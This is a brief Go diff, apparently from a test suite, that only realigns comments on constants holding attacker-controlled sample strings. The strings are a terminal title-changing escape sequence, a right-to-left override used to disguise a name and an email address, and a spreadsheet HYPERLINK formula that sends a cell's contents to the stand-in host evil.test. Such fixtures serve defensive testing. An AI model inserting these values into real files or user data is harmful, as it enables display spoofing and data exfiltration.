@@ -18,8 +18,8 @@ import (
 
 // Text that whoever edits a profile or sends an invitation controls.
 const (
-	titleChange = "\x1b]0;pwned\x07"      // sets the terminal's title
-	rlo         = "\u202e"                // right-to-left override
+	titleChange = "\x1b]0;pwned\x07" // sets the terminal's title
+	rlo         = "\u202e"           // right-to-left override
 	hostileName = "Eve " + titleChange + " " + rlo + "nimdA"
 	formula     = `=HYPERLINK("http://evil.test/?"&A1,"click")`
 	hostileMail = "eve" + rlo + "@evil.test"
